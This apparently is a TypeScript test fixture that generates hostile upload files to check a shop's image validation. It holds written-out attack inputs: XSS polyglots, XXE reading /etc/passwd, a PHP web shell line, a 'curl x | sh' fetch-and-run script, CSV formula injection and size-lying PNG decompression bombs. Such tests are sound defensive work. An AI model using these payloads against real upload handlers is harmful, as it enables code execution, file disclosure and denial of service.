import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A file of the set, and whether the shop takes it. */
export interface MaliciousFile {
  readonly what: string;
  readonly content: Buffer;
  readonly taken: boolean;
}

const SCRIPT = '<script>alert(document.domain)</script>';
const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const plain = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#1F2F4F' }, limitInputPixels: false });

/** A PNG that says one size and holds another amount of data. */
function lyingPng(width: number, height: number, rows = 1): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length);
    head.write(type, 4, 'latin1');
    const body = Buffer.concat([head.subarray(4), data]);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc(body));
    return Buffer.concat([head.subarray(0, 4), body, check]);
  };
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  size.set([8, 0, 0, 0, 0], 8);
  const lines = Buffer.alloc(rows * (Math.min(width, 5_000) + 1));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(lines)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** No pictures at all, or of kinds that the shop does not decode. */
function otherFormats(): [string, Buffer][] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
  return [
    ['an SVG with a script', text(svg)],
    ['an SVG with an XML head', text(`<?xml version="1.0"?>${svg}`)],
    ['an SVG behind a byte order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(svg)])],
    ['an SVG that reads a file', text('<svg xmlns:xlink="x"><image xlink:href="file:///etc/passwd"/></svg>')],
    ['XML with entities', text('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>')],
    ['a page', text(`<!doctype html>${SCRIPT}`)],
    ['a page in capitals', text(`<HTML><BODY ONLOAD=alert(1)>`)],
    ['JavaScript', text('alert(1)')],
    ['PHP', text('<?php system($_GET["c"]); ?>')],
    ['a shell script', text('#!/bin/sh\ncurl x | sh')],
    ['a ZIP', text('PK\u0003\u0004\u0014\0')],
    ['a JAR', text('PK\u0003\u0004META-INF/')],
    ['a GZIP (SVGZ)', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])],
    ['a PDF', text('%PDF-1.7\n1 0 obj')],
    ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0')],
    ['an executable', text('MZ\u0090\0')],
    ['an ELF', text('\u007fELF')],
    ['a TIFF', text('II*\0\u0008\0\0\0')],
    ['a TIFF the other way round', text('MM\0*\0\0\0\u0008')],
    ['a BMP', text('BM\u003a\0\0\0')],
    ['an icon', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16])],
    ['a HEIC', text('\0\0\0\u0018ftypheic')],
    ['an AVIF', text('\0\0\0\u001cftypavif')],
    ['a JPEG 2000', text('\0\0\0\u000cjP  \r\n')],
    ['a JPEG XL', Buffer.from([0xff, 0x0a, 0, 0])],
    ['a PSD', text('8BPS\0\u0001')],
    ['an MP4', text('\0\0\0\u0018ftypmp42')],
    ['RIFF that is sound', text('RIFF\u0024\0\0\0WAVEfmt ')],
    ['a MVG of ImageMagick', text('push graphic-context\nfill url(https://x)')],
    ['a vips file', Buffer.from([0x08, 0xf2, 0xa6, 0xb6, 0, 0, 0, 0])],
    ['a Radiance picture', text('#?RADIANCE\n')],
    ['a FITS picture', text('SIMPLE  =                    T')],
    ['a PPM', text('P6 1 1 255 abc')],
    ['a CSV', text('=HYPERLINK("https://x")')],
    ['zeros', Buffer.alloc(4_096)],
    ['one byte', Buffer.from([0xff])],
  ];
}

/** They begin as pictures and are none. */
async function impostors(): Promise<[string, Buffer][]> {
  const jpeg = await plain(600, 600).jpeg({ quality: 100 }).toBuffer();
  const png = await plain(600, 600).png().toBuffer();
  const webp = await plain(600, 600).webp().toBuffer();
  return [
    ['a GIF that is a script', text('GIF89a/*\0\0*/=1;alert(1)')],
    ['a GIF of its head alone', text('GIF89a')],
    ['a GIF without a frame', text('GIF89a\u0001\0\u0001\0\0\0\0;')],
    ['a JPEG of its head alone', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
    ['a JPEG that is a page', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe]), text(SCRIPT)])],
    ['a PNG of its head alone', png.subarray(0, 8)],
    ['a PNG that is a page', Buffer.concat([png.subarray(0, 8), text(SCRIPT)])],
    ['a WebP of its head alone', webp.subarray(0, 12)],
    ['a JPEG that was cut off', jpeg.subarray(0, jpeg.length / 2)],
    ['a PNG that was cut off', png.subarray(0, png.length / 2)],
    ['a WebP that was cut off', webp.subarray(0, webp.length / 2)],
    ['a PNG that says 17,000 x 17,000', lyingPng(17_000, 17_000)],
    ['a PNG that says 4,294,967,295 wide', lyingPng(0xffffffff, 1)],
    ['a PNG that says 0 x 0', lyingPng(0, 0)],
    ['a PNG that holds less than it says', lyingPng(900, 900)],
    ['a PNG of 24,006,000 pixels', await plain(6_000, 4_001).png().toBuffer()],
  ];
}

/** Pictures with something in them that must not be kept. */
async function smugglers(): Promise<[string, Buffer][]> {
  const located = {
    IFD0: { Artist: 'Ana Prado', ImageDescription: SCRIPT },
    IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '23/1 33/1 0/1' },
  };
  const frames = Array.from({ length: 60 }, () => ({
    create: { width: 4, height: 4, channels: 3 as const, background: '#123456' },
  }));
  const animation = sharp(await Promise.all(frames.map((frame) => sharp(frame).png().toBuffer())), {
    join: { animated: true },
  });
  const after = (picture: Buffer): Buffer =>
    Buffer.concat([picture, text(`${SCRIPT}<?php echo 1; ?>Ana Prado`)]);
  return [
    ['a JPEG with a place and a name', await plain().withExif(located).jpeg().toBuffer()],
    ['a PNG with a place and a name', await plain().withExif(located).png().toBuffer()],
    ['a WebP with a place and a name', await plain().withExif(located).webp().toBuffer()],
    ['a JPEG with a script behind it', after(await plain().jpeg().toBuffer())],
    ['a PNG with a script behind it', after(await plain().png().toBuffer())],
    ['a GIF with a script behind it', after(await plain().gif().toBuffer())],
    ['a GIF of sixty frames', await animation.clone().gif().toBuffer()],
    ['a WebP of sixty frames', await animation.clone().webp().toBuffer()],
    ['a picture of one pixel', await plain(1, 1).png().toBuffer()],
    ['a picture of 1 x 60,000', await plain(1, 60_000).png().toBuffer()],
    ['a picture of 60,000 x 1', await plain(60_000, 1).png().toBuffer()],
    ['a picture in CMYK', await plain().toColourspace('cmyk').jpeg().toBuffer()],
    ['a picture of 16 bits', await plain().toColourspace('rgb16').png().toBuffer()],
    ['a picture that is all transparent', await plain().ensureAlpha(0).png().toBuffer()],
  ];
}

/** The set of S8. */
export async function maliciousFiles(): Promise<MaliciousFile[]> {
  const refused = [...otherFormats(), ...(await impostors())];
  return [
    ...refused.map(([what, content]) => ({ what, content, taken: false })),
    ...(await smugglers()).map(([what, content]) => ({ what, content, taken: true })),
  ];
}
